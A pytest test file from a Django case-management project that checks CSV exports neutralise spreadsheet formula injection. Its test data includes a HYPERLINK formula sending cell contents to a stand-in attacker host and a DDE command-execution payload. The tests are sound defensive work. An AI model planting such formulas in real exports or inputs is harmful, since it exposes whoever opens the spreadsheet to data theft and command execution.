"""CSV formula injection: every CSV the project writes (``core.csv``) shows a formula typed by a user as
text. An s.62 justification ``=HYPERLINK(...)`` was exported raw in the access log."""

import csv as stdlib_csv
import io

import pytest

from cases.services import case_justify, case_raise_for_match
from core import csv
from tests.cases.factories import evidence_on, incident_at, offender_barred_from, possible_match
from tests.conftest import REPO, client_for, signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Triage of my beat's cases = routine", "Triage of my beat's cases = routine"),  # not at the start
        ("", ""),
        (42, 42),  # numbers are written as numbers
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert csv.safe_cell(value) == written


def test_the_writer_neutralises_every_cell_and_keeps_the_rest_readable():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["when", "justification", "case"])
    writer.writerows([["2026-01-01", HYPERLINK, 7], ["2026-01-02", 'said "hello", then left', 8]])
    rows = list(stdlib_csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["when", "justification", "case"],
        ["2026-01-01", "'" + HYPERLINK, "7"],
        ["2026-01-02", 'said "hello", then left', "8"],
    ]


def test_every_csv_the_project_writes_goes_through_core_csv():
    """No module but ``core/csv.py`` makes a ``csv.writer``: a new export cannot skip the neutralising."""
    apps = ["accounts", "cases", "config", "core", "incidents", "orders", "recognition", "workflows"]
    offenders = [
        str(path.relative_to(REPO))
        for app in apps
        for path in (REPO / app).rglob("*.py")
        if path != REPO / "core" / "csv.py"
        and ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
        and "from core import csv" not in text
    ]
    assert offenders == []


@pytest.mark.django_db
def test_a_formula_in_a_justification_is_exported_as_text_in_the_access_log(world):
    a = world.a
    offender, _, _ = offender_barred_from(a.store)
    case = case_raise_for_match(match=possible_match(evidence_on(incident_at(a.store, a.worker)), offender))
    r = client_for(a.admin).post(f"/api/cases/{case.pk}/justification/", {"justification": HYPERLINK}, format="json")
    assert r.status_code in (200, 201), r.content
    case_justify(case=case, user=a.officer, justification="@officer checked the footage")

    for response in (
        client_for(a.admin).get("/api/access-logs/export/"),
        signed_in(a.admin).get("/cases/access-log/", {"export": "csv"}),
    ):
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(stdlib_csv.DictReader(io.StringIO(response.content.decode())))
        justifications = {row["justification"] for row in rows}
        assert "'" + HYPERLINK in justifications and HYPERLINK not in justifications
        assert "'@officer checked the footage" in justifications
        assert all(not cell.startswith(csv.FORMULA_STARTS) for row in rows for cell in row.values())
